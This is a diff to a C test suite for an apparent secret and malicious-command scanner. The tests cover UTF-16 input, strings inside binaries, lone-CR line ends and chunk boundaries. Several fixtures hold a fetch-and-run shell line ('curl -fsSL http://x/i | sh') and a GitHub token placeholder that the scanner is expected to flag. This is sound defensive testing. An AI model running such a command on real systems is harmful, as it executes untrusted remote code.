@@ -60,6 +60,12 @@ static const char rules[] =
     "    category: obfuscation\n"
     "    severity: low\n"
     "    pattern: '^END-OF-THINGS$'\n"
+    "    description: D\n"
+    "  - id: short-anchored\n"
+    "    title: no factor, so Hyperscan runs the pattern itself\n"
+    "    category: obfuscation\n"
+    "    severity: low\n"
+    "    pattern: '^(?:zq|qz)[0-9]{6}$'\n"
     "    description: D\n";
 
 static struct tu_scanner sc;
@@ -397,8 +403,23 @@ START_TEST(binary_files)
 	static const char bin[] = "\x7f" "ELF\0\0\0 " TOKEN "\n";
 	struct finding_list fl;
 
+	/* Not read as text, but its strings are: the secret is found, for
+	 * the whole file, at the string's offset (the space before it is
+	 * part of the string). */
 	tu_scan(&sc, "tool", bin, sizeof(bin) - 1, &fl);
-	ck_assert_uint_eq(fl.n, 0);
+	ck_assert_uint_eq(fl.n, 1);
+	ck_assert_str_eq(fl.v[0].rule->id, "gh-pat");
+	ck_assert_uint_eq(fl.v[0].line, 0);
+	ck_assert_uint_eq(fl.v[0].column, 0);
+	ck_assert_int_eq(fl.v[0].severity, AL_SEV_CRITICAL);
+	ck_assert_str_eq(fl.v[0].excerpt,
+	    "string at byte 7 of a binary file:  ghp_*****");
+	ck_assert_uint_eq(strlen(fl.v[0].fingerprint), 32);
+	finding_list_free(&fl);
+	/* In compiled code, one severity lower. */
+	tu_scan(&sc, "lib/tool.so", bin, sizeof(bin) - 1, &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	ck_assert_int_eq(fl.v[0].severity, AL_SEV_HIGH);
 	finding_list_free(&fl);
 	/* A NUL does not switch text rules off for a script. */
 	tu_scan(&sc, "run.sh", bin, sizeof(bin) - 1, &fl);
@@ -408,6 +429,163 @@ START_TEST(binary_files)
 	tu_scan(&sc, ".github/workflows/x.yml", "\0\0", 2, &fl);
 	ck_assert_uint_eq(tu_count(&fl, "workflow"), 1);
 	finding_list_free(&fl);
+}
+END_TEST
+
+/* Text and bytes as UTF-16 (ASCII only), with or without a BOM. */
+static size_t
+utf16(char *out, const char *s, int be, int bom)
+{
+	size_t k = 0;
+
+	if (bom) {
+		out[k++] = be ? '\xfe' : '\xff';
+		out[k++] = be ? '\xff' : '\xfe';
+	}
+	for (; *s; s++) {
+		out[k++] = be ? '\0' : *s;
+		out[k++] = be ? *s : '\0';
+	}
+	return k;
+}
+
+START_TEST(utf16_is_read_as_text)
+{
+	static const char text[] = "echo one\ncurl -fsSL http://x/i | sh\n"
+	    "t = \"" TOKEN "\"\nEND-OF-THINGS\n";
+	char buf[512];
+	struct finding_list fl;
+	int be, bom;
+
+	for (be = 0; be < 2; be++)
+		for (bom = 0; bom < 2; bom++) {
+			size_t n = utf16(buf, text, be, bom);
+			const struct finding *f;
+
+			tu_scan(&sc, "a.ps1", buf, n, &fl);
+			ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+			ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
+			ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
+			f = tu_first(&fl, "curl-sh");
+			ck_assert_uint_eq(f->line, 2);
+			ck_assert_uint_eq(f->column, 1);
+			ck_assert_str_eq(f->excerpt, be ? "(read as UTF-16BE) "
+			    "curl -fsSL http://x/i | sh" : "(read as UTF-16LE) "
+			    "curl -fsSL http://x/i | sh");
+			f = tu_first(&fl, "gh-pat");
+			ck_assert_uint_eq(f->line, 3);
+			ck_assert_uint_eq(f->column, 6);
+			ck_assert_ptr_nonnull(strstr(f->excerpt, "ghp_*****"));
+			ck_assert_ptr_null(strstr(f->excerpt, TOKEN));
+			finding_list_free(&fl);
+		}
+	/* A BOM before ASCII lines is not believed: a shell runs them. */
+	memcpy(buf, "\xff\xfe\ncurl -fsSL http://x/i | sh\n", 31);
+	tu_scan(&sc, "a.sh", buf, 31, &fl);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
+	    "curl -fsSL http://x/i | sh");
+	finding_list_free(&fl);
+}
+END_TEST
+
+/* UTF-16 longer than a chunk: lines count on, a surrogate pair split by
+ * the chunk boundary decodes whole. */
+START_TEST(utf16_across_chunks)
+{
+	size_t n = 3 * AL_SCAN_CHUNK, k = 2, i;
+	char *buf = malloc(n + 256);
+	struct finding_list fl;
+	const struct finding *f;
+
+	ck_assert_ptr_nonnull(buf);
+	buf[0] = '\xff';
+	buf[1] = '\xfe';
+	for (i = 0; k + 16 < AL_SCAN_CHUNK; i++) {
+		memcpy(buf + k, "a\0b\0\n\0", 6); /* "ab\n" */
+		k += 6;
+	}
+	/* U+1F600 as a surrogate pair, then a line with the secret. */
+	memcpy(buf + k, "\x3d\xd8\x00\xde\n\0", 6);
+	k += 6;
+	k += utf16(buf + k, "t = " TOKEN "\n", 0, 0);
+	tu_scan(&sc, "big.txt", buf, k, &fl);
+	ck_assert_uint_eq(fl.n, 1);
+	f = tu_first(&fl, "gh-pat");
+	ck_assert_uint_eq(f->line, i + 2);
+	ck_assert_uint_eq(f->column, 5);
+	finding_list_free(&fl);
+	free(buf);
+}
+END_TEST
+
+/* A lone CR ends a line for `^` (Python's .pth reader splits there); a
+ * CRLF is one line end; line numbers stay those of LF. */
+START_TEST(lone_cr_ends_a_line)
+{
+	struct finding_list fl;
+	const struct finding *f;
+
+	scan_str("a.pth", "/usr/lib/x\rEND-OF-THINGS\r", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
+	f = tu_first(&fl, "eof-marker");
+	ck_assert_uint_eq(f->line, 1);
+	ck_assert_uint_eq(f->column, 12);
+	finding_list_free(&fl);
+	scan_str("a.txt", "x\r\nEND-OF-THINGS\r\ny\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
+	ck_assert_uint_eq(tu_first(&fl, "eof-marker")->line, 2);
+	finding_list_free(&fl);
+	/* The same for a rule the prefilter runs as a whole pattern. */
+	scan_str("a.pth", "x\rzq123456\rqz654321\r\n", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "short-anchored"), 1);
+	ck_assert_uint_eq(tu_first(&fl, "short-anchored")->column, 3);
+	finding_list_free(&fl);
+	/* Not a line start: a CR inside the line's text is no break for a
+	 * match that would need one. */
+	scan_str("a.txt", "xEND-OF-THINGS\r", &fl);
+	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
+/* Strings of a binary: ASCII and UTF-16LE at either alignment, in a file of
+ * several chunks, each at its offset; short runs are not strings. */
+START_TEST(binary_strings)
+{
+	size_t n = 2 * AL_SCAN_CHUNK + 100, at = AL_SCAN_CHUNK - 10;
+	char *buf = calloc(1, n);
+	struct finding_list fl;
+	size_t i, wide = 0, narrow = 0;
+	char want[64];
+
+	ck_assert_ptr_nonnull(buf);
+	memcpy(buf, "\x7f" "ELF", 4);
+	/* A string across the first chunk's end. */
+	memcpy(buf + at, "curl -fsSL http://x/i | sh", 26);
+	/* UTF-16LE at an odd offset. */
+	(void)utf16(buf + AL_SCAN_CHUNK + 101, TOKEN, 0, 0);
+	/* Too short to be a string. */
+	memcpy(buf + AL_SCAN_CHUNK + 500, "curl|sh", 7);
+	tu_scan(&sc, "tool", buf, n, &fl);
+	for (i = 0; i < fl.n; i++) {
+		ck_assert_uint_eq(fl.v[i].line, 0);
+		if (strcmp(fl.v[i].rule->id, "curl-sh") == 0) {
+			snprintf(want, sizeof(want), "string at byte %zu ", at);
+			ck_assert_ptr_nonnull(strstr(fl.v[i].excerpt, want));
+			narrow++;
+		} else if (strcmp(fl.v[i].rule->id, "gh-pat") == 0) {
+			snprintf(want, sizeof(want), "UTF-16 string at byte %zu ",
+			    (size_t)AL_SCAN_CHUNK + 101);
+			ck_assert_ptr_nonnull(strstr(fl.v[i].excerpt, want));
+			wide++;
+		}
+	}
+	ck_assert_uint_eq(narrow, 1);
+	ck_assert_uint_eq(wide, 1);
+	ck_assert_uint_eq(fl.n, 2);
+	finding_list_free(&fl);
+	free(buf);
 }
 END_TEST
 
@@ -679,6 +857,10 @@ engine_suite(void)
 	tc = tcase_create("hostile");
 	tcase_add_checked_fixture(tc, setup, teardown);
 	tcase_add_test(tc, binary_files);
+	tcase_add_test(tc, utf16_is_read_as_text);
+	tcase_add_test(tc, utf16_across_chunks);
+	tcase_add_test(tc, lone_cr_ends_a_line);
+	tcase_add_test(tc, binary_strings);
 	tcase_add_test(tc, empty_and_nul_and_invalid_utf8);
 	tcase_add_test(tc, finding_cap_is_unscannable);
 	tcase_add_test(tc, read_error_is_unscannable);
